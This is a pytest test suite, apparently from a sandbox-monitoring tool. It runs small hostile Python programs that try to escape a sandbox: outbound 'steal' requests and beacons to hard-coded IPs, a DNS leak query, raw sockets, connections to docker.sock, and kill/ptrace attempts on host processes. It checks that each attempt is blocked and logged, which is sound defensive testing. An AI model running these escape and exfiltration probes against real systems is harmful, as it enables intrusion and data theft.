"""Escape suite: small hostile programs (not agents) try to get out of the sandbox.

Each technique must fail, and each one that puts a packet or a connection on the wire must
appear in the record. The README's table of techniques x outcome comes from this file.
"""

from __future__ import annotations

import os
import socket
import subprocess
import textwrap
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.observe.sandbox.conftest import Runner, needs_sandbox

from agentxray.model import Event

pytestmark = needs_sandbox


def _script(body: str) -> str:
    return "import os, socket, sys\n" + textwrap.dedent(body)


def _events(events: tuple[Event, ...], kind: str) -> list[Event]:
    return [e for e in events if e.kind == kind]


def test_tcp_to_a_hard_coded_ip_reaches_only_the_recorder(contained: Runner) -> None:
    run = contained(
        _script(
            """
            s = socket.create_connection(("93.184.216.34", 80), timeout=5)
            s.sendall(b"GET /steal HTTP/1.1\\r\\nHost: 93.184.216.34\\r\\n\\r\\n")
            print(s.recv(4096).decode(errors="replace"))
            """
        )
    )
    assert run.exit_code == 0, run.stderr
    assert "503" in run.stdout.splitlines()[0]
    (http,) = _events(run.events, "http")
    assert (http.host, http.port, http.method, http.status) == ("93.184.216.34", 80, "GET", 503)
    assert http.url == "http://93.184.216.34/steal"


def test_non_http_tcp_is_recorded_with_its_first_bytes(contained: Runner) -> None:
    run = contained(
        _script(
            """
            s = socket.create_connection(("5.6.7.8", 22), timeout=5)
            s.sendall(b"SSH-2.0-OpenSSH_9.2\\r\\n")
            print(repr(s.recv(100)))
            """
        )
    )
    assert run.stdout.strip() == "b''", run.stderr  # closed by the recorder, nothing answered
    (conn,) = _events(run.events, "connect")
    assert (conn.host, conn.port, conn.blocked) == ("5.6.7.8", 22, True)
    assert "SSH-2.0-OpenSSH_9.2" in (conn.detail or "")


def test_udp_is_dropped_and_logged(contained: Runner) -> None:
    run = contained(
        _script(
            """
            import errno
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.connect(("9.9.9.9", 4444))
            u.send(b"beacon-1")
            u.settimeout(2)
            try:
                u.recv(100)
                print("ANSWERED")
            except OSError as exc:
                print("refused", errno.errorcode.get(exc.errno or 0))
            """
        )
    )
    # ICMP "administratively prohibited" from the sink: the sender fails at once
    assert run.stdout.strip() == "refused EHOSTUNREACH", run.stdout + run.stderr
    (conn,) = _events(run.events, "connect")
    assert (conn.host, conn.port, conn.blocked) == ("9.9.9.9", 4444, True)
    assert "udp" in (conn.detail or "") and "beacon-1" in (conn.detail or "")


@pytest.mark.parametrize(
    "family,kind,proto",
    [
        ("AF_INET", "SOCK_RAW", "IPPROTO_ICMP"),
        ("AF_INET", "SOCK_RAW", "IPPROTO_RAW"),
        ("AF_PACKET", "SOCK_RAW", "0"),
        ("AF_INET", "SOCK_DGRAM", "IPPROTO_ICMP"),
    ],
)
def test_raw_packet_and_ping_sockets_are_refused(
    contained: Runner, family: str, kind: str, proto: str
) -> None:
    proto_expr = proto if proto == "0" else f"socket.{proto}"
    run = contained(
        _script(
            f"""
            try:
                s = socket.socket(socket.{family}, socket.{kind}, {proto_expr})
                s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("8.8.8.8", 0))
                print("SENT")
            except OSError as exc:
                print("refused", exc.errno)
            """
        )
    )
    assert run.stdout.startswith("refused"), run.stdout + run.stderr


def test_ipv6_is_dropped_and_logged(contained: Runner) -> None:
    run = contained(
        _script(
            """
            import time
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.settimeout(5)
            started = time.monotonic()
            try:
                s.connect(("2001:4860:4860::8888", 443))
                print("CONNECTED")
            except OSError as exc:
                print("failed", type(exc).__name__, time.monotonic() - started < 1)
            u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            u.connect(("2001:4860:4860::8844", 53))
            u.send(b"v6-beacon")
            u.settimeout(2)
            try:
                u.recv(10)
            except OSError as exc:
                print("udp failed", type(exc).__name__)
            """
        )
    )
    # refused at once (a reset from the sink), not left to time out
    assert run.stdout.splitlines() == [
        "failed ConnectionRefusedError True",
        "udp failed PermissionError",
    ], run.stdout + run.stderr
    conns = {(e.host, e.port) for e in _events(run.events, "connect")}
    assert ("2001:4860:4860::8888", 443) in conns
    assert ("2001:4860:4860::8844", 53) in conns


def test_dns_over_tcp_to_a_public_resolver_is_answered_by_ours(contained: Runner) -> None:
    run = contained(
        _script(
            """
            import struct
            q = bytes.fromhex("abcd01000001000000000000") + b"\\x04leak\\x07example\\x03net\\x00"
            q += b"\\x00\\x01\\x00\\x01"
            s = socket.create_connection(("8.8.8.8", 53), timeout=5)
            s.sendall(struct.pack("!H", len(q)) + q)
            n = struct.unpack("!H", s.recv(2))[0]
            a = s.recv(n)
            print(".".join(str(b) for b in a[-4:]))
            """
        )
    )
    assert run.stdout.strip().startswith("198.1"), run.stdout + run.stderr  # our fake range
    (dns,) = _events(run.events, "dns")
    assert dns.host == "leak.example.net" and "tcp" in (dns.detail or "")


def test_strict_policy_blocks_names_and_logs_violations(contained: Runner) -> None:
    run = contained(
        _script(
            """
            for host in ("telemetry.vendor.invalid", "api.anthropic.com"):
                try:
                    print(host, socket.gethostbyname(host))
                except OSError:
                    print(host, "unresolved")
            """
        ),
        policy="strict",
    )
    lines = run.stdout.splitlines()
    assert lines[0] == "telemetry.vendor.invalid unresolved", run.stderr
    assert lines[1].startswith("api.anthropic.com 198.1")
    (violation,) = {e.host: e for e in _events(run.events, "violation")}.values()
    assert violation.host == "telemetry.vendor.invalid" and violation.blocked


@pytest.fixture
def host_unix_socket(tmp_path: Path) -> Iterator[tuple[str, str]]:
    path = Path("/tmp") / f"axr-host-{uuid.uuid4().hex[:8]}.sock"
    abstract = f"axr-host-{uuid.uuid4().hex[:8]}"
    a = socket.socket(socket.AF_UNIX)
    a.bind(str(path))
    a.listen()
    b = socket.socket(socket.AF_UNIX)
    b.bind("\0" + abstract)
    b.listen()
    yield str(path), abstract
    a.close()
    b.close()
    path.unlink(missing_ok=True)


def test_unix_sockets_of_the_host_are_out_of_reach(
    contained: Runner, host_unix_socket: tuple[str, str]
) -> None:
    path, abstract = host_unix_socket
    run = contained(
        _script(
            f"""
            for addr in ({path!r}, "\\0" + {abstract!r}, "/run/dbus/system_bus_socket",
                         "/var/run/docker.sock"):
                s = socket.socket(socket.AF_UNIX)
                try:
                    s.connect(addr)
                    print("CONNECTED", addr)
                except OSError as exc:
                    print("failed", type(exc).__name__)
            """
        )
    )
    assert run.stdout.count("failed") == 4, run.stdout + run.stderr


def test_the_real_home_is_not_visible(contained: Runner) -> None:
    real = Path.home()
    host_entries = sorted(p.name for p in real.iterdir()) if real.is_dir() else []
    if not host_entries:
        pytest.skip("the invoking user's home is empty")
    run = contained(
        _script(
            f"""
            print(sorted(os.listdir({str(real)!r})) if os.path.isdir({str(real)!r}) else [])
            print(sorted(os.listdir("/proc/1/root" + {str(real)!r})))
            """
        )
    )
    first, second = run.stdout.splitlines()
    assert first == "[]" and second == "[]", run.stdout + run.stderr


def test_writes_outside_the_workspace_fail_or_stay_inside(contained: Runner) -> None:
    marker = f"axr-escape-{uuid.uuid4().hex[:8]}"
    run = contained(
        _script(
            f"""
            for d in ("/usr", "/etc", "/opt", "/", "/var", "/tmp"):
                try:
                    with open(os.path.join(d, {marker!r}), "w") as f:
                        f.write("x")
                    print("wrote", d)
                except OSError as exc:
                    print("failed", d, exc.errno)
            """
        )
    )
    lines = run.stdout.splitlines()
    assert [line.split()[0] for line in lines[:5]] == ["failed"] * 5, run.stdout + run.stderr
    assert lines[5] == "wrote /tmp"  # the sandbox's own empty tmpfs
    assert not (Path("/tmp") / marker).exists()
    for d in ("/usr", "/etc", "/opt", "/", "/var"):
        assert not (Path(d) / marker).exists()


@pytest.fixture
def host_process() -> Iterator[int]:
    proc = subprocess.Popen(["sleep", "60"])
    yield proc.pid
    proc.kill()
    proc.wait()


def test_host_processes_cannot_be_seen_signalled_or_traced(
    contained: Runner, host_process: int
) -> None:
    run = contained(
        _script(
            f"""
            import ctypes, signal
            pids = [p for p in os.listdir("/proc") if p.isdigit()]
            cmds = [open(f"/proc/{{p}}/cmdline", "rb").read() for p in pids]
            print("sleep-visible", any(c == b"sleep\\x0060\\x00" for c in cmds))
            try:
                os.kill({host_process}, signal.SIGKILL)
                print("KILLED")
            except OSError as exc:
                print("kill failed", exc.errno)
            libc = ctypes.CDLL(None, use_errno=True)
            r = libc.ptrace(16, {host_process}, None, None)  # PTRACE_ATTACH
            print("ptrace", r, ctypes.get_errno())
            """
        )
    )
    lines = run.stdout.splitlines()
    assert lines[0] == "sleep-visible False", run.stdout + run.stderr
    assert lines[1].startswith("kill failed")
    assert lines[2].startswith("ptrace -1")
    os.kill(host_process, 0)  # still alive
    assert os.waitpid(host_process, os.WNOHANG) == (0, 0)


def test_no_descriptor_leads_outside(contained: Runner) -> None:
    run = contained(
        _script(
            """
            out = []
            for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
                try:
                    out.append((fd, os.readlink(f"/proc/self/fd/{fd}")))
                except OSError:
                    pass  # the descriptor listdir used, closed by now
            print([item for item in out if item[0] > 2])
            """
        )
    )
    (line,) = run.stdout.splitlines()
    assert line == "[]", line  # nothing inherited beyond stdin, stdout and stderr


def test_hostile_bytes_are_recorded_and_the_recorder_keeps_serving(contained: Runner) -> None:
    run = contained(
        _script(
            """
            for payload in (b"\\x16\\x03\\x01\\x00\\x05garbage-hello",
                            b"GET / HTTP/1.1\\r\\nHost: a\\r\\nbad header line\\r\\n\\r\\n"):
                s = socket.create_connection(("198.51.100.7", 443), timeout=5)
                s.sendall(payload)
                try:
                    print(repr(s.recv(40)))
                except OSError as exc:
                    print("error", type(exc).__name__)
                s.close()
            s = socket.create_connection(("198.51.100.7", 80), timeout=5)
            s.sendall(b"GET /after HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
            print(s.recv(12).decode())
            """
        )
    )
    assert run.stdout.splitlines()[-1] == "HTTP/1.1 503", run.stdout + run.stderr
    assert not [e for e in run.events if e.kind == "tls-refused"]  # garbage is no refusal
    tls, http = [e for e in run.events if e.kind == "connect"]
    assert (tls.host, tls.port) == ("198.51.100.7", 443) and "malformed TLS" in (tls.detail or "")
    assert b"garbage-hello".hex() in (tls.detail or "")
    assert "malformed HTTP" in (http.detail or "")
    assert [e.url for e in run.events if e.kind == "http"] == ["http://198.51.100.7/after"]


def test_io_uring_and_vsock_are_refused(contained: Runner) -> None:
    run = contained(
        _script(
            """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            params = ctypes.create_string_buffer(120)
            print("io_uring_setup", libc.syscall(425, 4, params), ctypes.get_errno())
            try:
                socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK
                print("VSOCK")
            except OSError as exc:
                print("vsock refused", exc.errno)
            print("ordinary calls work:", len(os.listdir("/")) > 0)
            """
        )
    )
    assert run.stdout.splitlines() == [
        "io_uring_setup -1 1",
        "vsock refused 1",
        "ordinary calls work: True",
    ], run.stdout + run.stderr


def test_a_program_that_outlives_its_timeout_is_killed_with_its_children(
    contained: Runner,
) -> None:
    marker = f"axr-orphan-{uuid.uuid4().hex[:8]}"
    run = contained(
        _script(
            f"""
            import subprocess, time
            subprocess.Popen(["sh", "-c", "sleep 30; echo {marker}"], start_new_session=True)
            time.sleep(30)
            """
        ),
        timeout=1.5,
    )
    assert run.exit_code is None and run.duration_s < 10
    survivors = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker.encode() in cmdline.read_bytes():
                survivors.append(cmdline.parent.name)
        except OSError:
            pass  # exited meanwhile
    assert survivors == []
    assert [e.detail for e in run.events if e.kind == "exit"] == ["killed at the timeout"]


def test_files_only_their_owner_may_read_stay_unreadable(contained: Runner) -> None:
    from agentxray.observe.sandbox.bwrap import private_paths

    files = [path for path, folder in private_paths() if not folder][:12]
    folders = [path for path, folder in private_paths() if folder][:12]
    if not files and not folders:
        pytest.skip("no file or folder here is private to its owner")
    run = contained(
        _script(
            f"""
            for path in {files!r}:
                try:
                    print("READ" if open(path, "rb").read() else "empty", path)
                except OSError:
                    print("denied", path)
            for path in {folders!r}:
                print("LISTED" if os.listdir(path) else "empty", path)
            """
        )
    )
    lines = run.stdout.splitlines()
    assert len(lines) == len(files) + len(folders), run.stdout + run.stderr
    assert not [line for line in lines if line.startswith(("READ", "LISTED"))], lines
